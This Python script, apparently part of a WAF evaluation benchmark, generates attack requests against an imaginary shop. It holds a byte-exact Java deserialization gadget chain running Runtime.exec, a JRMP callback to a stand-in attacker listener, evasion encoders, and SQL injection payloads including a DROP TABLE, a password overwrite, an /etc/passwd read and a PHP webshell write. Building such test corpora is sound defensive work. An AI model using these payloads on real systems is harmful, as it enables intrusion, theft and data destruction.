#!/usr/bin/env python3
"""Writes corpus/attacks/attacks.jsonl: attack requests for measuring a WAF's detection rate.

Deterministic (a fixed seed, no clock, no environment): running the script again writes the
same file byte for byte. Python 3 standard library only.

    corpus/attacks/generate_attacks.py                     # rewrite attacks.jsonl
    corpus/attacks/generate_attacks.py --out /tmp/a.jsonl  # somewhere else

Format: corpus/README.md plus the evaluation fields (expect, category, placement, encoding,
split); corpus/benign/corpus.py reads it and defines the bytes on the wire. Every line is
{"id", "kind": "attack", "method", "target", "headers", "body" | "body_base64", "expect":
"block", "category", "placement", "encoding", "split", "group"}. "group" names the
payload a request carries: all requests of one group share its split, so a payload tuned on
never shows up in the holdout. The split takes 30 % of each category's payloads (ranked by a
hash of the payload) as "holdout".

The payloads are written from how each attack works, against one imaginary shop
(Host: shop.example.com). Attacker infrastructure is documentation address space
(203.0.113.0/24, 198.51.100.0/24) and .example names. Each payload is placed where an attacker
would put it for that attack (query, path, form, JSON, XML, multipart, header, cookie,
User-Agent, raw body; and bodies no form/JSON/XML parser reads: text/plain, NDJSON,
application/graphql, protobuf, gRPC-web, gRPC-web-text, written after all the others by
generate_bodies with a generator of their own) with the encoding that placement needs, and
some with the evasions attackers use (percent-encoding, double encoding, JSON \\u escapes,
XML character references, keyword case, SQL comments, ${IFS}, overlong UTF-8, ...). The
"encoding" field names the evasion; "plain" means only what the placement itself requires
(e.g. a space as + in a query).
"""

import argparse
import base64
import gzip
import hashlib
import json
import os
import random
import re
import string
import struct
import sys
from urllib.parse import quote, quote_plus

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # no __pycache__ left in corpus/benign
sys.path.insert(0, os.path.join(HERE, "..", "benign"))
import generate as benign  # noqa: E402  (the browser header sets of the benign corpus)

SEED = 13
SITE = benign.SITE
ORIGIN = benign.ORIGIN

# Attacker infrastructure: documentation ranges and .example names only.
C2 = "203.0.113.12"      # listener for reverse shells, JNDI/LDAP, JRMP
DROP = "203.0.113.5"     # payload download host
ALT = "198.51.100.23"
EVIL = "evil.example"
OOB = "oob.attacker.example"

# ----------------------------------------------------------------------------------------------
# Transport encodings: what a placement needs so that the application decodes the payload.

PRINTABLE = "".join(chr(c) for c in range(0x21, 0x7F))
QUERY_SAFE = "!$'()*,;:@/?="          # left as is in a query value by curl/Burp users
PATH_SAFE = "!$'()*,;:@/=&+"           # pchar and "/" (a "?" or "#" would end the path)
FORM_SAFE = "".join(c for c in PRINTABLE if c not in "&+%#")
COOKIE_SAFE = "".join(c for c in PRINTABLE if c not in ";%") + " "


def enc_query(s, mode, rng):
    """A query-parameter value. plain: only what a request-target needs; url: every reserved
    character; double: twice; pre: already escaped by an evasion (keep its %XX)."""
    if mode == "url":
        return quote(s, safe="")
    if mode == "double":
        return quote(quote(s, safe=""), safe="")
    safe = QUERY_SAFE + ("%" if mode == "pre" else "")
    out = quote(s, safe=safe)
    if mode == "plain" and rng.random() < 0.6:
        out = out.replace("%20", "+")
    return out


def enc_path(s, mode, rng):
    if mode == "url":
        return quote(s, safe="")
    if mode == "double":
        return quote(quote(s, safe=""), safe="")
    return quote(s, safe=PATH_SAFE + ("%" if mode == "pre" else ""))


def enc_form(s, mode, rng):
    """An application/x-www-form-urlencoded value. plain: what curl -d sends (reserved
    characters kept, & + % # and spaces escaped); url: every reserved character, as a
    browser sends it; double: twice."""
    if mode == "url":
        return quote_plus(s, safe="*")
    if mode == "double":
        return quote_plus(quote(s, safe=""), safe="")
    safe = FORM_SAFE + ("%" if mode == "pre" else "")
    return quote(s, safe=safe).replace("%20", "+")


def enc_cookie(s, mode, rng):
    if mode == "url":
        return quote(s, safe="")
    if mode == "double":
        return quote(quote(s, safe=""), safe="")
    if mode == "base64":
        return base64.b64encode(s.encode("utf-8")).decode("ascii")
    safe = COOKIE_SAFE + ("%" if mode == "pre" else "")
    return quote(s, safe=safe)


def enc_header(s, mode, rng):
    if mode == "url":
        return quote(s, safe="")
    if mode == "double":
        return quote(quote(s, safe=""), safe="")
    if mode == "base64":
        return base64.b64encode(s.encode("utf-8")).decode("ascii")
    return s


def xml_text(s, mode, rng):
    """Element content. plain: & < > escaped as XML requires; entity: every non-alphanumeric
    character as a numeric character reference; cdata: a CDATA section."""
    if mode == "entity":
        out = []
        for c in s:
            if c.isalnum() and c.isascii() and rng.random() < 0.7:
                out.append(c)
            elif rng.random() < 0.5:
                out.append("&#%d;" % ord(c))
            else:
                out.append("&#x%x;" % ord(c))
        return "".join(out)
    if mode == "cdata" and "]]>" not in s:
        return "<![CDATA[" + s + "]]>"
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class Marked(str):
    """A JSON string (key or value) that carries the payload: the one a JSON encoding applies
    to."""


def json_literal(s, uescape, rng):
    if not uescape:
        return json.dumps(str(s), ensure_ascii=False)
    out = ['"']
    for c in s:
        if c.isascii() and c.isalnum() and rng.random() < 0.75:
            out.append(c)
        else:
            out.append(("\\u%04x" if rng.random() < 0.5 else "\\u%04X") % ord(c))
    out.append('"')
    return "".join(out)


def json_dump(obj, rng, uescape=False, spaced=False):
    """JSON text; Marked strings get \\uXXXX escapes when uescape (JSON.parse and every other
    parser decode them before the application sees the value)."""
    sep, colon = (", ", ": ") if spaced else (",", ":")
    if isinstance(obj, dict):
        return "{" + sep.join(json_dump(k, rng, uescape, spaced) + colon +
                              json_dump(v, rng, uescape, spaced) for k, v in obj.items()) + "}"
    if isinstance(obj, list):
        return "[" + sep.join(json_dump(v, rng, uescape, spaced) for v in obj) + "]"
    if isinstance(obj, Marked):
        return json_literal(obj, uescape, rng)
    if isinstance(obj, str):
        return json.dumps(obj, ensure_ascii=False)
    return json.dumps(obj)


def replace_sentinel(obj, value):
    """obj with every "$P" string replaced by value (a Marked payload)."""
    if isinstance(obj, dict):
        return {k: replace_sentinel(v, value) for k, v in obj.items()}
    if isinstance(obj, list):
        return [replace_sentinel(v, value) for v in obj]
    if obj == "$P":
        return value
    return obj


def mark_operators(obj):
    """Marks the keys and values an attacker would escape in a structured (NoSQL / prototype
    pollution) JSON payload: operators and prototype names."""
    def hot(s):
        return isinstance(s, str) and (s.startswith("$") or "proto" in s or
                                       s == "constructor" or "constructor." in s)
    if isinstance(obj, dict):
        return {(Marked(k) if hot(k) else k): mark_operators(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [mark_operators(v) for v in obj]
    return obj


def pct_all(s):
    """Every character but ASCII letters and digits percent-encoded (quote() keeps _.-~)."""
    return "".join(c if c.isascii() and c.isalnum() else quote(c, safe="") if ord(c) > 127
                   else "%%%02X" % ord(c) for c in s)


def header_ok(v):
    return all(0x20 <= ord(c) < 0x7F or c == "\t" for c in v)


# ----------------------------------------------------------------------------------------------
# Payload-level evasions (applied before the transport encoding).

SQL_WORDS = (r"select|union|all|from|where|and|or|not|order|by|group|having|sleep|benchmark|"
             r"waitfor|delay|null|concat|insert|into|values|drop|table|update|set|exec|execute|"
             r"declare|cast|as|int|convert|char|chr|substring|substr|ascii|version|database|user|"
             r"limit|case|when|then|else|end|if|like|load_file|outfile|extractvalue|updatexml|"
             r"pg_sleep|information_schema|tables|columns|table_name|column_name|count|floor|"
             r"rand|procedure|analyse|dual|top|copy|program|attach|rlike|in|is|xp_cmdshell|"
             r"group_concat|string_agg|current_user|varchar|exists|create")
SQL_RE = re.compile(r"\b(" + SQL_WORDS + r")\b", re.I)
XSS_RE = re.compile(r"(?<=<)/?[a-zA-Z]+|\bon[a-z]+(?=\s*=)|\b(?:src|href|srcdoc|action|"
                    r"formaction|data|autofocus)(?=\s*=)|javascript(?=:)|\bscript\b")
WIN_CMD_RE = re.compile(r"\b(whoami|type|net|user|dir|powershell|certutil|cmd|ping|nslookup|"
                        r"bitsadmin|mshta|rundll32|systeminfo|ipconfig|tasklist|findstr|echo)\b",
                        re.I)
URL_RE = re.compile(r"^[a-zA-Z][a-zA-Z0-9+.-]*(?=:)|(?<=://)[a-zA-Z][a-zA-Z0-9.-]*")
WRAPPER_RE = re.compile(r"^(php|data|expect|zip|phar|file|compress\.zlib)(?=:)")
JNDI_RE = re.compile(r"(?<=\$\{)jndi(?=:)")
WIN_PATH_RE = re.compile(r"(?i)(windows|win\.ini|system32|boot\.ini|inetpub|wwwroot|"
                         r"web\.config|drivers|etc|hosts|system\.ini)")


def outside_quotes(s, fn):
    """Applies fn to the parts of s outside '...' string literals."""
    parts = re.split(r"('(?:[^'\\]|\\.)*')", s)
    return "".join(p if i % 2 else fn(p) for i, p in enumerate(parts))


def random_case(word, rng):
    for _ in range(8):
        out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
        if out != word and out != word.lower() and out != word.upper():
            return out
    return word[0].swapcase() + word[1:]


def regex_case(s, regex, rng):
    return regex.sub(lambda m: random_case(m.group(0), rng), s)


def split_trailing_comment(s):
    m = re.search(r"(--[ \t]?-?|#)\s*$", s)
    return (s[:m.start()], s[m.start():]) if m else (s, "")


def sql_comment(s, rng):
    body, tail = split_trailing_comment(s)
    return outside_quotes(body, lambda p: re.sub(r" +", "/**/", p)) + tail


def sql_whitespace(s, rng, header=False):
    body, tail = split_trailing_comment(s)
    choices = ["\t"] if header else ["\t", "\n", "\r\n", "\x0c", "\t\t"]
    return outside_quotes(body, lambda p: re.sub(r" +", lambda m: rng.choice(choices), p)) + tail


def shell_ifs(s, rng):
    sep = rng.choice(["${IFS}", "${IFS}", "$IFS$9"])
    return s.replace(" ", sep)


CMD_WORD_RE = re.compile(r"(?:^|(?<=[;|&`(\n]))(\s*)([a-z][a-z0-9]{2,})")


def shell_quote_split(s, rng):
    """Quotes or backslashes inside command names: c'a't, wh""oami, c\\at."""
    def split(m):
        w = m.group(2)
        i = rng.randrange(1, len(w))
        ins = rng.choice(["''", '""', "\\"])
        return m.group(1) + w[:i] + ins + w[i:]
    return CMD_WORD_RE.sub(split, s)


def cmd_caret(s, rng):
    def caret(m):
        return "^".join(m.group(0)) if rng.random() < 0.7 else m.group(0)[0] + "^" + m.group(0)[1:]
    return re.sub(r"(?i)\b(whoami|type|net|powershell|certutil|cmd|ping|nslookup|bitsadmin|"
                  r"mshta|systeminfo|dir)\b", caret, s)


# Traversal sequences, escaped the ways attackers escape them (the result is wire form).
TRAV_RE = re.compile(r"\.\.[/\\]|\.\.(?=$)")


def traversal_escape(s, style, rng):
    table = {
        "url": {".": "%2e", "/": "%2f", "\\": "%5c"},
        "url-partial": {".": ".", "/": "%2f", "\\": "%5c"},
        "double-url": {".": "%252e", "/": "%252f", "\\": "%255c"},
        "utf8-overlong": {".": "%c0%ae", "/": "%c0%af", "\\": "%c1%9c"},
        "percent-u": {".": "%u002e", "/": "%u2215", "\\": "%u2216"},
    }[style]

    def esc(m):
        return "".join(table.get(c, c) for c in m.group(0))
    out = TRAV_RE.sub(esc, s)
    if style == "url" and rng.random() < 0.5:  # %2E%2E%2F: hex digits in upper case
        out = re.sub(r"%[0-9a-f]{2}", lambda m: m.group(0).upper(), out)
    return out


# ----------------------------------------------------------------------------------------------
# Clients: a browser (the benign corpus's header sets, its visitors' cookies) or a tool.

TOOLS = [
    ("curl", lambda rng: [("Host", SITE), ("User-Agent", "curl/" + rng.choice(
        ["7.81.0", "7.88.1", "8.5.0", "8.7.1"])), ("Accept", "*/*")]),
    ("python", lambda rng: [("Host", SITE), ("User-Agent", "python-requests/" + rng.choice(
        ["2.28.2", "2.31.0", "2.32.3"])), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
        ("Connection", "keep-alive")]),
    ("go", lambda rng: [("Host", SITE), ("User-Agent", "Go-http-client/1.1"),
                        ("Accept-Encoding", "gzip")]),
    ("wget", lambda rng: [("Host", SITE), ("User-Agent", "Wget/1.21.4"), ("Accept", "*/*"),
                          ("Accept-Encoding", "identity"), ("Connection", "Keep-Alive")]),
    ("powershell", lambda rng: [("Host", SITE), ("User-Agent", "Mozilla/5.0 (Windows NT; "
                                "Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291"),
                                ("Connection", "Keep-Alive")]),
    ("java", lambda rng: [("Host", SITE), ("User-Agent", "Java/1.8.0_392"),
                          ("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
                          ("Connection", "keep-alive")]),
    ("apache-httpclient", lambda rng: [("Host", SITE), ("Connection", "Keep-Alive"),
                                       ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.10)"),
                                       ("Accept-Encoding", "gzip,deflate")]),
    ("axios", lambda rng: [("Host", SITE), ("Accept", "application/json, text/plain, */*"),
                           ("User-Agent", "axios/1.6.8"), ("Accept-Encoding", "gzip, compress, "
                                                                              "deflate, br")]),
]
TOOL_WEIGHTS = {"curl": 30, "python": 30, "go": 10, "wget": 4, "powershell": 4, "java": 6,
                "apache-httpclient": 6, "axios": 10}


class Clients:
    def __init__(self, seed):
        self.visitors = []
        for i in range(64):
            vrng = random.Random(seed * 1000003 + i)
            self.visitors.append((benign.make_browser(vrng), benign.make_session(vrng)))

    def pick(self, rng, browser_share=0.6, tools=None):
        if tools is None and rng.random() < browser_share:
            b, session = rng.choice(self.visitors)
            return {"type": "browser", "b": b, "session": session}
        names = tools or [n for n, _ in TOOLS]
        name = rng.choices(names, weights=[TOOL_WEIGHTS[n] for n in names])[0]
        return {"type": "tool", "name": name, "headers": dict(TOOLS)[name](rng)}


def client_headers(rng, client, method, target, nav=False, extra=(), accept=None):
    """The client's header set for one request, with extra headers (Content-Type, ...)."""
    if client["type"] == "browser":
        b, session = client["b"], client["session"]
        if nav:
            acc = benign.ACCEPT_PAGE["chrome" if b["kind"] == "edge" else b["kind"]]
            site = "same-origin" if method != "GET" else rng.choice(
                ["same-origin", "same-origin", "none", "cross-site"])
            ex = list(extra)
            if method != "GET":
                ex.append(("Origin", ORIGIN))
            req = benign.browser_request(rng, b, session, "page", method, target, acc,
                                         "document", "navigate", site, ex)
        else:
            ex = list(extra)
            if method != "GET":
                ex.append(("Origin", ORIGIN))
            req = benign.browser_request(rng, b, session, "xhr", method, target,
                                         accept or "application/json, text/plain, */*", "empty",
                                         "cors", "same-origin", ex)
        return [list(h) for h in req["headers"]]
    h = [list(x) for x in client["headers"]]
    if accept and client["name"] not in ("java",):
        for x in h:
            if x[0] == "Accept":
                x[1] = accept
    h += [list(x) for x in extra]
    return h


def set_header(headers, name, value):
    for h in headers:
        if h[0].lower() == name.lower():
            h[1] = value
            return
    # Before the Cookie header when there is one (where a client puts it), else last.
    for i, h in enumerate(headers):
        if h[0] == "Cookie":
            headers.insert(i, [name, value])
            return
    headers.append([name, value])


def add_cookie(headers, name, value, rng, whole=False):
    """Adds name=value to the Cookie header (made when there is none); whole: the Cookie header
    is the value alone (Shellshock needs "() {" at its start)."""
    pair = value if whole else f"{name}={value}"
    for h in headers:
        if h[0] == "Cookie":
            if whole:
                h[1] = pair
            else:
                parts = h[1].split("; ")
                same = [i for i, c in enumerate(parts) if c.split("=", 1)[0] == name]
                if same:  # the attacker edits the cookie the site set
                    parts[same[0]] = pair
                else:
                    parts.insert(rng.randrange(len(parts) + 1), pair)
                h[1] = "; ".join(parts)
            return
    headers.append(["Cookie", pair])


def boundary_for(client, rng):
    if client["type"] == "browser":
        if client["b"]["kind"] == "firefox":
            return "-" * 27 + "".join(rng.choice(string.digits) for _ in range(29))
        return "----WebKitFormBoundary" + benign.rand_str(rng, 16)
    if client["name"] == "curl":
        return "-" * 24 + benign.rand_hex(rng, 16)
    if client["name"] == "python":
        return benign.rand_hex(rng, 32)
    return benign.rand_hex(rng, 30)


def multipart_body(parts, boundary):
    """parts: (name, filename or None, content type or None, data str or bytes). Returns bytes."""
    out = b""
    for name, filename, ctype, data in parts:
        disp = f'form-data; name="{name}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        out += f"--{boundary}\r\nContent-Disposition: {disp}\r\n".encode("utf-8")
        if ctype:
            out += f"Content-Type: {ctype}\r\n".encode("utf-8")
        out += b"\r\n" + (data if isinstance(data, bytes) else data.encode("utf-8")) + b"\r\n"
    return out + f"--{boundary}--\r\n".encode("utf-8")


# ----------------------------------------------------------------------------------------------
# Java serialization (java.io.ObjectOutputStream protocol, version 5), enough to write the
# object graphs of the well-known gadget chains byte for byte as ObjectOutputStream would.

TC_NULL, TC_REFERENCE, TC_CLASSDESC, TC_OBJECT, TC_STRING = 0x70, 0x71, 0x72, 0x73, 0x74
TC_ARRAY, TC_CLASS, TC_BLOCKDATA, TC_ENDBLOCKDATA, TC_PROXYCLASSDESC = 0x75, 0x76, 0x77, 0x78, 0x7D
SC_WRITE_METHOD, SC_SERIALIZABLE = 0x01, 0x02


def s64(u):
    return u - (1 << 64) if u >= 1 << 63 else u


class Desc:
    """A class descriptor: fields are (typecode, name, type signature or None), in the order
    ObjectStreamClass sorts them (primitives first, then by name)."""

    def __init__(self, name, suid, flags, fields=(), sup=None, interfaces=None):
        self.name, self.suid, self.flags = name, suid, flags
        self.fields, self.sup, self.interfaces = list(fields), sup, interfaces


class JObj:
    """An object: values per class (name -> {field: value}) and, for classes with a
    writeObject method, what it writes after the default fields (list of ("block", bytes) or
    ("obj", value))."""

    def __init__(self, desc, values=None, custom=None):
        self.desc, self.values, self.custom = desc, values or {}, custom or {}


class JArr:
    def __init__(self, desc, items):
        self.desc, self.items = desc, items


class JClass:
    """A java.lang.Class object: one per class, as in the JVM (so a second use is a
    back-reference)."""
    _all = {}

    def __new__(cls, desc):
        if desc.name not in cls._all:
            obj = super().__new__(cls)
            obj.desc = desc
            cls._all[desc.name] = obj
        return cls._all[desc.name]


class JavaWriter:
    def __init__(self):
        self.buf = bytearray(b"\xac\xed\x00\x05")
        self.next_handle = 0x7E0000
        self.handles = {}
        self.keep = []  # the objects whose id() is a handle key stay alive

    def assign(self, key):
        self.handles[key] = self.next_handle
        self.next_handle += 1

    def utf(self, s):
        b = s.encode("utf-8")
        self.buf += struct.pack(">H", len(b)) + b

    def ref_or(self, key):
        if key in self.handles:
            self.buf += bytes([TC_REFERENCE]) + struct.pack(">I", self.handles[key])
            return True
        return False

    def type_string(self, sig):
        if not self.ref_or(("str", sig)):
            self.buf.append(TC_STRING)
            self.assign(("str", sig))
            self.utf(sig)

    def desc(self, d):
        if d is None:
            self.buf.append(TC_NULL)
            return
        if self.ref_or(("desc", d.name)):
            return
        if d.interfaces is not None:
            self.buf.append(TC_PROXYCLASSDESC)
            self.assign(("desc", d.name))
            self.buf += struct.pack(">I", len(d.interfaces))
            for i in d.interfaces:
                self.utf(i)
        else:
            self.buf.append(TC_CLASSDESC)
            self.assign(("desc", d.name))
            self.utf(d.name)
            self.buf += struct.pack(">qB", d.suid, d.flags) + struct.pack(">H", len(d.fields))
            for code, name, sig in d.fields:
                self.buf.append(ord(code))
                self.utf(name)
                if code in "L[":
                    self.type_string(sig)
        self.buf.append(TC_ENDBLOCKDATA)
        self.desc(d.sup)

    def prim(self, code, v):
        self.buf += struct.pack(">" + {"I": "i", "J": "q", "F": "f", "Z": "?", "S": "h",
                                       "B": "b", "D": "d"}[code], v)

    def obj(self, v):
        # Like ObjectOutputStream: an object written before is a back-reference.
        if v is None:
            self.buf.append(TC_NULL)
        elif self.ref_or(("obj", id(v))):
            return
        elif isinstance(v, str):
            self.buf.append(TC_STRING)
            self.assign(("obj", id(v)))
            self.keep.append(v)
            self.utf(v)
        elif isinstance(v, JClass):
            self.buf.append(TC_CLASS)
            self.desc(v.desc)
            self.assign(("obj", id(v)))
        elif isinstance(v, JArr):
            self.buf.append(TC_ARRAY)
            self.desc(v.desc)
            self.assign(("obj", id(v)))
            self.buf += struct.pack(">i", len(v.items))
            for item in v.items:
                self.obj(item)
        else:
            self.buf.append(TC_OBJECT)
            self.desc(v.desc)
            self.assign(("obj", id(v)))
            chain = []
            d = v.desc if v.desc.interfaces is None else v.desc.sup
            while d is not None:
                chain.append(d)
                d = d.sup
            for d in reversed(chain):  # superclass data first
                vals = v.values.get(d.name, {})
                for code, name, _ in d.fields:
                    if code in "L[":
                        self.obj(vals.get(name))
                    else:
                        self.prim(code, vals[name])
                if d.flags & SC_WRITE_METHOD:
                    for kind, item in v.custom.get(d.name, []):
                        if kind == "block":
                            self.buf += bytes([TC_BLOCKDATA, len(item)]) + item
                        else:
                            self.obj(item)
                    self.buf.append(TC_ENDBLOCKDATA)

    def result(self):
        return bytes(self.buf)


CC = "org.apache.commons.collections."
D_HASHMAP = Desc("java.util.HashMap", 362498820763181265, SC_SERIALIZABLE | SC_WRITE_METHOD,
                 [("F", "loadFactor", None), ("I", "threshold", None)])
D_TIED = Desc(CC + "keyvalue.TiedMapEntry", -8453869361373831205, SC_SERIALIZABLE,
              [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")])
D_LAZY = Desc(CC + "map.LazyMap", 7990956402564206740, SC_SERIALIZABLE | SC_WRITE_METHOD,
              [("L", "factory", "Lorg/apache/commons/collections/Transformer;")])
D_CHAINED = Desc(CC + "functors.ChainedTransformer", 3514945074733160196, SC_SERIALIZABLE,
                 [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")])
D_CONST = Desc(CC + "functors.ConstantTransformer", 6374440726369055124, SC_SERIALIZABLE,
               [("L", "iConstant", "Ljava/lang/Object;")])
D_INVOKER = Desc(CC + "functors.InvokerTransformer", -8653385846894047688, SC_SERIALIZABLE,
                 [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                  ("[", "iParamTypes", "[Ljava/lang/Class;")])
D_NUMBER = Desc("java.lang.Number", -8742448824652078965, SC_SERIALIZABLE)
D_INTEGER = Desc("java.lang.Integer", 1360826667806852920, SC_SERIALIZABLE,
                 [("I", "value", None)], D_NUMBER)
D_RUNTIME = Desc("java.lang.Runtime", 0, 0)
D_OBJECT = Desc("java.lang.Object", 0, 0)
D_STRING = Desc("java.lang.String", -6849794470754667710, SC_SERIALIZABLE)
# Array descriptors: ObjectInputStream does not compare array serialVersionUIDs.
D_CLASS_ARR = Desc("[Ljava.lang.Class;", s64(0xAB16D7AECBCD5A99), SC_SERIALIZABLE)
D_OBJECT_ARR = Desc("[Ljava.lang.Object;", s64(0x90CE589F1073296C), SC_SERIALIZABLE)
D_TRANSFORMER_ARR = Desc("[L" + CC + "Transformer;", s64(0xBD562AF1D8341899), SC_SERIALIZABLE)
D_URL = Desc("java.net.URL", -7627629688361524110, SC_SERIALIZABLE | SC_WRITE_METHOD,
             [("I", "hashCode", None), ("I", "port", None),
              ("L", "authority", "Ljava/lang/String;"), ("L", "file", "Ljava/lang/String;"),
              ("L", "host", "Ljava/lang/String;"), ("L", "protocol", "Ljava/lang/String;"),
              ("L", "ref", "Ljava/lang/String;")])
D_PROXY = Desc("java.lang.reflect.Proxy", -2222568056686623797, SC_SERIALIZABLE,
               [("L", "h", "Ljava/lang/reflect/InvocationHandler;")])
D_REMOTE_OBJECT = Desc("java.rmi.server.RemoteObject", -3215090123894869218,
                       SC_SERIALIZABLE | SC_WRITE_METHOD)
D_ROIH = Desc("java.rmi.server.RemoteObjectInvocationHandler", 2, SC_SERIALIZABLE, [],
              D_REMOTE_OBJECT)
D_REGISTRY_PROXY = Desc("$Proxy(Registry)", 0, 0, [], D_PROXY, ["java.rmi.registry.Registry"])


def hashmap(entries, threshold=12, buckets=16):
    return JObj(D_HASHMAP, {D_HASHMAP.name: {"loadFactor": 0.75, "threshold": threshold}},
                {D_HASHMAP.name: [("block", struct.pack(">ii", buckets, len(entries)))] +
                 [x for k, v in entries for x in (("obj", k), ("obj", v))]})


def invoker(method, param_types, args):
    return JObj(D_INVOKER, {D_INVOKER.name: {
        "iMethodName": method, "iParamTypes": JArr(D_CLASS_ARR, param_types),
        "iArgs": JArr(D_OBJECT_ARR, args)}})


def commons_collections_hashmap(command):
    """HashMap{TiedMapEntry(LazyMap(HashMap{}, ChainedTransformer[...Runtime.exec]), k): k}:
    HashMap.readObject hashes the key, TiedMapEntry.hashCode calls LazyMap.get, which runs the
    transformer chain (commons-collections 3.1-3.2.1)."""
    chain = JArr(D_TRANSFORMER_ARR, [
        JObj(D_CONST, {D_CONST.name: {"iConstant": JClass(D_RUNTIME)}}),
        invoker("getMethod", [JClass(D_STRING), JClass(D_CLASS_ARR)],
                ["getRuntime", JArr(D_CLASS_ARR, [])]),
        invoker("invoke", [JClass(D_OBJECT), JClass(D_OBJECT_ARR)],
                [None, JArr(D_OBJECT_ARR, [])]),
        invoker("exec", [JClass(D_STRING)], [command]),
        JObj(D_CONST, {D_CONST.name: {"iConstant": JObj(
            D_INTEGER, {D_INTEGER.name: {"value": 1}})}}),
    ])
    lazy = JObj(D_LAZY, {D_LAZY.name: {"factory": JObj(D_CHAINED, {
        D_CHAINED.name: {"iTransformers": chain}})}},
        {D_LAZY.name: [("obj", hashmap([]))]})
    key = "foo"
    tied = JObj(D_TIED, {D_TIED.name: {"key": key, "map": lazy}})
    w = JavaWriter()
    w.obj(hashmap([(tied, "foo")]))
    return w.result()


def url_dns(host):
    """HashMap{URL: string}: HashMap.readObject hashes the URL, whose hashCode (-1, not yet
    computed) resolves the host: the out-of-band probe for any deserialization sink."""
    url = JObj(D_URL, {D_URL.name: {"hashCode": -1, "port": -1, "authority": host, "file": "",
                                    "host": host, "protocol": "http", "ref": None}},
               {D_URL.name: []})
    w = JavaWriter()
    w.obj(hashmap([(url, "http://" + host)]))
    return w.result()


def jrmp_client(host, port, rng):
    """A Registry proxy whose RemoteObjectInvocationHandler holds a UnicastRef to host:port:
    deserializing it makes a JRMP call out to the attacker's listener, which answers with the
    real gadget chain."""
    block = bytearray()
    for s in ("UnicastRef", host):
        b = s.encode()
        block += struct.pack(">H", len(b)) + b
    # ObjID(int): a random object number, UID 0 (unique 0, time 0, count 0); not a result.
    block += struct.pack(">iqiqh?", port, rng.randrange(-2**31, 2**31), 0, 0, 0, False)
    handler = JObj(D_ROIH, {}, {D_REMOTE_OBJECT.name: [("block", bytes(block))]})
    proxy = JObj(D_REGISTRY_PROXY, {D_PROXY.name: {"h": handler}})
    w = JavaWriter()
    w.obj(proxy)
    return w.result()


# ----------------------------------------------------------------------------------------------
# Payloads.


class Payload:
    """One attack payload. text: the string the application must see (bytes for a serialized
    object, a dict for a structured JSON body, a list of (key, value) for bracket-keyed query
    or form parameters). ctx: which slots it fits (e.g. "num" for a numeric parameter).
    only: the placements it makes sense in (default: the category's). enc: the encoding the
    payload carries itself (e.g. html-entity inside an attribute), reported instead of
    "plain". flags: evasions that apply ("unix", "win", "ifs", "shellshock", ...)."""

    def __init__(self, text, ctx=None, only=None, enc=None, flags=(), raw=None):
        self.text, self.ctx, self.only, self.enc = text, ctx, only, enc
        self.flags = set(flags)
        self.raw = raw  # extra data (e.g. the XXE document parts)
        if isinstance(text, bytes):
            self.key = "bytes:" + hashlib.sha256(text).hexdigest()
        elif isinstance(text, (dict, list)):
            self.key = json.dumps(text, sort_keys=False)
        else:
            self.key = text
        self.group = None


def P(text, ctx=None, only=None, enc=None, flags=()):
    return Payload(text, ctx, only, enc, flags)


def b64(s):
    return base64.b64encode(s.encode("utf-8") if isinstance(s, str) else s).decode("ascii")


def entities(s, style):
    if style == "dec":
        return "".join("&#%d;" % ord(c) for c in s)
    if style == "hex":
        return "".join("&#x%x;" % ord(c) for c in s)
    return "".join("&#%07d" % ord(c) for c in s)  # zero-padded, no semicolons


WEBSHELL_HEX = "0x" + "<?php system($_GET['c']); ?>".encode().hex()

SQLI = [
    # MySQL / generic: tautologies, comments, UNION, boolean and time blind, error-based.
    P("1' OR '1'='1", "str"),
    P("' OR 1=1-- -", "str"),
    P("admin'-- -", "str"),
    P("admin' #", "str"),
    P("1 OR 1=1", "num"),
    P("' OR ''='", "str"),
    P("\" OR \"1\"=\"1\" -- ", "str"),
    P("') OR ('1'='1", "str"),
    P("1)) OR 1=1-- -", "num"),
    P("1' AND 1=1 AND 'a'='a", "str"),
    P("1' AND 1=2 AND 'a'='a", "str"),
    P("-1 UNION SELECT 1,2,3-- -", "num"),
    P("-1' UNION SELECT NULL,username,password FROM users-- -", "str"),
    P("1' UNION ALL SELECT NULL,CONCAT(0x71766a7171,user(),0x71706b7a71),NULL-- -", "str"),
    P("0 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE "
      "table_schema=database()", "num"),
    P("-5 UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE "
      "table_name='users'-- -", "num"),
    P("1' AND SLEEP(5)-- -", "str"),
    P("1 AND (SELECT 4521 FROM (SELECT(SLEEP(5)))qKzb)", "num"),
    P("1' AND IF(SUBSTRING(version(),1,1)='8',SLEEP(5),0)-- -", "str"),
    P("1' AND BENCHMARK(5000000,MD5(0x41))-- -", "str"),
    P("1' or sleep(5)#", "str"),
    P("1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -", "str"),
    P("1 AND updatexml(1,concat(0x7e,(SELECT @@version)),1)", "num"),
    P("1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x "
      "FROM information_schema.tables GROUP BY x)y)-- -", "str"),
    P("1'; DROP TABLE users-- -", "str"),
    P("1; UPDATE users SET password='5f4dcc3b5aa765d61d8327deb882cf99' WHERE username='admin'",
      "num"),
    P("1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -", "str"),
    P("1' ORDER BY 7-- -", "str"),
    P("1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77-- -", "str"),
    P("-1 UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -", "num"),
    P("1 LIMIT 1 INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY " + WEBSHELL_HEX, "num"),
